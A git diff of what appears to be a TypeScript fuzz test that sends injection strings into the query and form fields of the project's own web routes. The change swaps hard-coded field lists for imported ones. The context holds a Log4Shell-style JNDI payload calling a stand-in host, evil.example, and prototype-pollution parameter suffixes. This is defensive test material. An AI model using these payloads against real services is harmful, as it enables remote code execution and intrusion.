@@ -1,7 +1,7 @@
 import { beforeAll, describe } from "vitest";
 import { startCampaign } from "../../client/kinds/campaign.ts";
 import type { Organization } from "../support/organization.ts";
-import { routes } from "../web/routes.ts";
+import { formFields, queryFields, routes } from "../web/routes.ts";
 import { attackLine, upTo } from "./line.ts";
 import { openStage, type Stage, tokenIn } from "./stage.ts";
 
@@ -68,35 +68,6 @@ const injections = [
   "$\u007bjndi:ldap://evil.example/a}",
 ];
 const suffixes = ["", "[not]", "[contains]", "[]", "[0][not]", ".not", "[__proto__][x]"];
-const names = [
-  "q",
-  "view",
-  "page",
-  "duty",
-  "lang",
-  "to",
-  "organization",
-  "channel",
-  "done",
-  "opened",
-  "picture",
-  "id",
-  "key",
-];
-const fields = [
-  "verb",
-  "token",
-  "reason",
-  "until",
-  "to",
-  "subject",
-  "severity",
-  "key",
-  "words",
-  "code",
-  "ask-note",
-  "organization",
-];
 
 describe("forms and queries", () => {
   attackLine(
@@ -117,14 +88,14 @@ describe("forms and queries", () => {
         const path = (random() < 0.3 ? pattern : known).replace(/:\w+/g, () =>
           encodeURIComponent(pick(injections).replaceAll("\ud800", "")),
         );
-        const query = new URLSearchParams({ [pick(names) + pick(suffixes)]: pick(injections) }).toString();
+        const query = new URLSearchParams({ [pick(queryFields) + pick(suffixes)]: pick(injections) }).toString();
         const began = performance.now();
         let answer: Awaited<ReturnType<Stage["ask"]>>;
         if (method === "POST") {
           const shown = await stage.ask(known, { headers: { cookie } });
           const form: Record<string, string> = { token: tokenIn(shown.text) || "x", verb: "press" };
           for (const _ of upTo(4))
-            form[pick(fields.filter((name) => name !== "token")) + pick(suffixes)] = pick(injections);
+            form[pick(formFields.filter((name) => name !== "token")) + pick(suffixes)] = pick(injections);
           // A valid form would not be an attack.
           form.verb = pick(injections);
           delete form.words;
